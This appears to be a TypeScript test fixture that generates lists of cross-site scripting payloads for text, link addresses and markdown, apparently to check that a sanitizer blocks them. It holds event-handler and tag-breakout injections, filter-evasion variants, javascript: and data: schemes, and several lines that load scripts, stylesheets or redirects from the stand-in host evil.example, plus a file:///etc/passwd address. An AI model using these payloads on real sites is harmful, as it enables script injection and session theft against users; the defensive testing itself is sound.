/** Attempts to run a script from where a text, an address or markup is expected, made from families. */

const CALL = 'alert(1)';
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus autofocus',
  'onanimationstart',
  'ontoggle open',
  'onpointerenter',
  'onbeforetoggle',
  'onscrollend',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details',
  'input',
  'iframe',
  'marquee',
  'a href=#',
  'math',
  'object data=x',
  'select',
];
const BREAKOUTS = [
  '"',
  "'",
  '>',
  '">',
  "'>",
  '--></script>',
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  ']]>',
  '`',
];
const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script type=module>${CALL}</script>`,
];

const elements = TAGS.flatMap((tag) =>
  EVENTS.map((event) => `<${tag} ${event.replace(/^(\S+)/, `$1=${CALL}`)}>`),
);
const brokenOut = BREAKOUTS.flatMap((end) => [
  ...SCRIPTS.slice(0, 3).map((script) => `${end}${script}`),
  `${end} onmouseover=${CALL} x=`,
]);
const others = [
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=javascript:alert(1)><button>Go</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<style>@import "//evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '\u2028<script>alert(1)</script>\u2029',
  '<!--<script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
];

/** Addresses that a link, picture or frame must not follow. */
export const ADDRESS_PAYLOADS: readonly string[] = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    'vbscript:',
    'javascript://%0a',
    'javascript&colon;',
    'view-source:javascript:',
  ].map((scheme) => scheme + CALL),
  ...[
    'data:text/html,',
    'data:text/html;base64,',
    'data:image/svg+xml,',
    'data:application/xhtml+xml,',
  ].map((scheme) => `${scheme}<script>${CALL}</script>`),
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example',
  'http://evil.example',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'ftp://evil.example',
  'filesystem:https://evil.example/x',
  'https://evil.example/"onmouseover=alert(1) x="',
  "https://evil.example/'><script>alert(1)</script>",
];

/** In the words of written articles. */
export const MARKDOWN_PAYLOADS: readonly string[] = ADDRESS_PAYLOADS.flatMap((address) => [
  `[link](${address})`,
  `![picture](${address})`,
  `<${address}>`,
  `[ref]\n\n[ref]: ${address}`,
]);

export const TEXT_PAYLOADS: readonly string[] = [...SCRIPTS, ...elements, ...brokenOut, ...others];
